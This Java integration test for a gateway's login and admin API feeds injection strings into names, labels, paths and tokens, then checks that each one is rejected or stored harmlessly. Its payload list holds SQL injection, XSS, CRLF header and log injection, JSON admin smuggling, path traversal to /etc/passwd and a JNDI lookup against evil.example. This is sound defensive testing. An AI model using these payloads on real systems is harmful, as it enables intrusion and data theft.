// SPDX-License-Identifier: Apache-2.0
package org.meridian.gateway;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.meridian.gateway.People.json;

import com.fasterxml.jackson.databind.JsonNode;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.meridian.core.auth.Scope;
import org.meridian.core.auth.request.AccessRequests;
import org.meridian.gateway.People.Person;

/** Names and texts that are made to be taken for something else: SQL, HTML, headers, lines of logs, JSON, paths. */
@Timeout(120)
class InjectionIT {

    private static RunningGateway server;
    private static People people;
    private static Person boss;
    private static Person ada;
    private static final AtomicInteger teams = new AtomicInteger();

    @BeforeAll
    static void start() throws Exception {
        server = new RunningGateway(
                Optional.empty(),
                RunningGateway.LIMITS,
                GatewaySettings.Access.OPEN,
                new GatewaySettings.Groups(1000, Optional.empty(), java.util.Map.of()),
                new AccessRequests.Rules(true, 1000));
        people = new People(server);
        people.make("ada");
        people.administration().create("boss", Optional.empty(), true);
        boss = people.program("boss", Scope.ADMIN);
        ada = people.signedIn("ada");
    }

    @AfterAll
    static void stop() {
        people.close();
        server.close();
    }

    private static Stream<String> texts() {
        return Stream.of(
                "'; DROP TABLE meridian.account; --",
                "' OR '1'='1",
                "\\'; SELECT 1; --",
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "&lt;b&gt; &amp; \"quoted\" 'single'",
                "x\r\nSet-Cookie: meridian=mine",
                "x\r\n\r\n<html>",
                "x\n2026-01-01T00:00:00.000 INFO  Main signed in as boss",
                "x\u2028y\u0085z",
                "\",\"admin\":true,\"x\":\"",
                "\\u0022,\"scopes\":[\"admin\"]",
                "${jndi:ldap://evil.example/x} ${env:HOME}",
                "%00%0d%0a",
                "../../../etc/passwd",
                "ada~../boss",
                "\u202egnp.exe",
                "a\u0000b",
                "ada ",
                " ada",
                "ADA",
                "\u0430da");
    }

    /** In a path; the web server closes the connection on a NUL there, which is tried in bodies. */
    private static String encoded(String text) {
        return URLEncoder.encode(text.replace('\u0000', '\u0001'), UTF_8).replace("+", "%20");
    }

    private static void assertHarmless(String text, HttpResponse<String> answer) {
        assertTrue(answer.statusCode() < 500, answer.statusCode() + " " + answer.body());
        assertFalse(answer.headers().firstValue("Set-Cookie").orElse("").contains("mine"), answer.headers()::toString);
        boolean page = answer.headers().firstValue("Content-Type").orElse("").startsWith("text/html");
        assertFalse(
                page && text.matches("(?s).*<[a-z].*") && answer.body().contains(text), "the page shows it as it is");
    }

    /** Rows of the audit log are lines; nothing in them ends one. */
    private static void assertStillThere() throws Exception {
        assertEquals(
                List.of("0"),
                people.sql("SELECT count(*) FROM meridian.audit"
                        + " WHERE detail ~ '[[:cntrl:]]' OR account ~ '[^a-z0-9._ -]'"));
        assertEquals(
                List.of("ada,boss"), people.sql("SELECT string_agg(name, ',' ORDER BY name) FROM meridian.account"));
        assertEquals(List.of("boss"), people.sql("SELECT name FROM meridian.account WHERE admin"));
    }

    @ParameterizedTest
    @MethodSource("texts")
    void aNameOfAUserIsANameAlone(String text) throws Exception {
        for (String path : List.of("/auth/login", "/auth/session", "/auth/password", "/sign-in")) {
            // From many addresses, or the limit of attempts would answer.
            HttpResponse<String> answer = people.anonymous()
                    .post(path, "username", text, "password", text, "new_password", "x".repeat(20), "return", "/");
            assertHarmless(text, answer);
            assertTrue(List.of(400, 401, 429).contains(answer.statusCode()), answer.body());
            assertEquals(Optional.empty(), answer.headers().firstValue("X-VO-Authenticated"));
        }
        HttpResponse<String> made = boss.post("/auth/admin/users", "username", text);
        assertEquals(400, made.statusCode(), made.body());
        assertEquals(
                400,
                boss.post("/auth/admin/users", "username", "mallory", "email", text)
                        .statusCode());
        for (String method : List.of("GET", "POST")) {
            String path = "/auth/admin/users/" + encoded(text) + (method.equals("POST") ? "/password" : "");
            HttpResponse<String> found = boss.send(method, path);
            assertTrue(List.of(400, 404).contains(found.statusCode()), found.statusCode() + " " + found.body());
        }
        assertStillThere();
    }

    @ParameterizedTest
    @MethodSource("texts")
    void aNameOfAGroupIsANameAlone(String text) throws Exception {
        HttpResponse<String> joined = boss.send("PUT", "/auth/admin/groups/" + encoded(text) + "/members/ada");
        if (text.equals("ADA")) {
            // Operators call their groups so; nobody else can.
            assertEquals(204, joined.statusCode());
            assertEquals(204, boss.delete("/auth/admin/groups/ADA/members/ada").statusCode());
        } else {
            assertTrue(List.of(400, 404).contains(joined.statusCode()), joined.statusCode() + " " + joined.body());
        }
        HttpResponse<String> search = ada.get("/gms/search?group=" + encoded(text));
        assertHarmless(text, search);
        assertFalse(search.statusCode() == 200 && !search.body().isBlank(), search.body());
        assertEquals(List.of("0"), people.sql("SELECT count(*) FROM meridian.group_member WHERE role IS NULL"));
        assertStillThere();
    }

    @ParameterizedTest
    @MethodSource("texts")
    void whatIsSaidOfATeamIsTextAlone(String text) throws Exception {
        if (!text.equals("ADA")) {
            assertEquals(400, ada.post("/auth/teams", "name", text).statusCode());
        }
        // A name is used once, by a team that has ended too.
        String name = "said" + teams.incrementAndGet();
        HttpResponse<String> made = ada.post("/auth/teams", "name", name, "description", text);
        assertHarmless(text, made);
        if (made.statusCode() == 201) {
            JsonNode team = json(201, made);
            assertEquals(text, team.get("description").asText());
            assertEquals("ada~" + name, team.get("name").asText());
            assertEquals(5, team.size(), team.toString());
            assertEquals(204, ada.delete("/auth/teams/ada~" + name).statusCode());
        } else {
            assertEquals(400, made.statusCode(), made.body());
            assertTrue(text.chars().anyMatch(Character::isISOControl), text);
        }
        assertHarmless(text, ada.get("/auth/teams/" + encoded(text)));
        assertStillThere();
    }

    @ParameterizedTest
    @MethodSource("texts")
    void whatATokenIsCalledIsTextAlone(String text) throws Exception {
        HttpResponse<String> made = ada.post("/auth/tokens", "label", text, "scope", "tap");
        assertHarmless(text, made);
        if (made.statusCode() != 201) {
            assertEquals(400, made.statusCode(), made.body());
            assertTrue(text.chars().anyMatch(Character::isISOControl), text);
            assertStillThere();
            return;
        }
        JsonNode token = json(201, made);
        assertEquals(text, token.get("label").asText());
        assertEquals("[\"tap\"]", token.get("scopes").toString());
        assertHarmless(text, ada.get("/account"));
        for (JsonNode listed : json(200, ada.get("/auth/tokens"))) {
            assertTrue(listed.size() <= 8 && !listed.has("admin"), listed.toString());
        }
        assertEquals(204, ada.delete("/auth/tokens/" + token.get("id").asText()).statusCode());
        assertStillThere();
    }

    @ParameterizedTest
    @MethodSource("texts")
    void whatAVisitorWritesIsTextAlone(String text) throws Exception {
        String from = "2001:db8:" + Integer.toHexString(text.hashCode() & 0xffff) + "::1";
        HttpResponse<String> asked = people.anonymous()
                .from(from)
                .post("/auth/requests", "username", "visitor", "email", "v@example.org", "why", text);
        assertHarmless(text, asked);
        if (asked.statusCode() == 202) {
            JsonNode list = json(200, boss.get("/auth/requests"));
            assertEquals(text, list.get(list.size() - 1).get("why").asText());
        } else {
            assertEquals(400, asked.statusCode(), asked.body());
        }
        assertStillThere();
    }

    /** The audit log and the headers of answers hold what came in paths and credentials, but nothing ends their lines. */
    @ParameterizedTest
    @MethodSource("texts")
    void aPathOrACredentialEndsNoLine(String text) throws Exception {
        HttpResponse<String> lost = people.program("ada", Scope.TAP).get("/auth/admin/users/" + encoded(text));
        assertHarmless(text, lost);
        assertTrue(List.of(400, 403, 404).contains(lost.statusCode()), lost.body());
        String visible = text.replaceAll("[^\\x20-\\x7e]", "_");
        HttpResponse<String> forged =
                server.get("/auth/admin/users/" + encoded(text), "Authorization", "Bearer mrd_" + visible);
        assertHarmless(text, forged);
        assertTrue(List.of(400, 401).contains(forged.statusCode()), forged.body());
        assertHarmless(text, server.get("/sign-in?return=" + encoded(text)));
        for (JsonNode event : json(200, boss.get("/auth/admin/audit?limit=50")).get("events")) {
            assertFalse(event.get("detail").asText().chars().anyMatch(Character::isISOControl), event.toString());
        }
        assertStillThere();
    }
}
